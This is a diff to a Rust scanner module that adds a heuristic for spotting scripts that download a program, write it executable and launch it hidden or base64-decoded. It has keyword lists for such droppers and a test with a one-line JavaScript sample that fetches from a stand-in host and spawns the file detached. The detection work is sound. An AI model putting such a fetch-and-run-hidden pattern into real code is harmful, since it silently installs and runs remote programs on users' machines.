@@ -27,6 +27,47 @@ pub(crate) fn run_later(code: &str) -> Vec<Range<usize>> {
     found
 }
 
+/// Where a script fetches a program that it writes down, makes executable and starts, out of sight or decoded.
+pub(crate) fn dropped(code: &str) -> Option<Range<usize>> {
+    let has = |words: &[&str]| words.iter().any(|word| code.contains(word));
+    let fetch = [
+        "https.get(",
+        "http.get(",
+        "fetch(",
+        "axios.get(",
+        "urlretrieve(",
+        "urlopen(",
+        "requests.get(",
+        "downloadfile(",
+    ]
+    .iter()
+    .find_map(|call| code.find(call).map(|at| at..at.saturating_add(call.len())))?;
+    let writes =
+        has(&["writefile", "createwritestream", ".write(", "write_bytes(", "urlretrieve(", "downloadfile("]);
+    let program = has(&["0o755", "0o777", "0o700", "chmod(", "chmodsync(", ".exe", "s_ixusr", "0o111"]);
+    let starts = has(&[
+        "spawn(",
+        "execfile(",
+        "exec(",
+        "popen(",
+        "subprocess.",
+        "startfile(",
+        "os.system(",
+        "start-process",
+    ]);
+    let unseen = has(&[
+        "detached",
+        "stdio: 'ignore'",
+        "windowshide",
+        "windowstyle hidden",
+        "start_new_session",
+        "create_no_window",
+        ".unref(",
+        "base64",
+    ]);
+    (writes && program && starts && unseen).then_some(fetch)
+}
+
 /// Whether a line of a shell runs the file `name` or makes it a program.
 fn runs_file(line: &str, name: &str) -> bool {
     let words: Vec<&str> =
@@ -89,6 +130,14 @@ const REACH: usize = 4_000;
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_program_started_out_of_sight_is_told_from_one_that_is_installed() {
+        let code = "fetch('https://x.test/p').then(b => { fs.writefilesync(p, b, { mode: 0o755 }); spawn(p, { detached: true }) })";
+        assert_eq!(dropped(code).map(|span| span.start), Some(0));
+        assert_eq!(dropped(&code.replace("detached: true", "stdio: 'inherit'")), None);
+        assert_eq!(dropped(&code.replace("0o755", "0o644")), None);
+    }
 
     #[test]
     fn what_is_fetched_and_run_later_is_told_from_what_is_kept() {
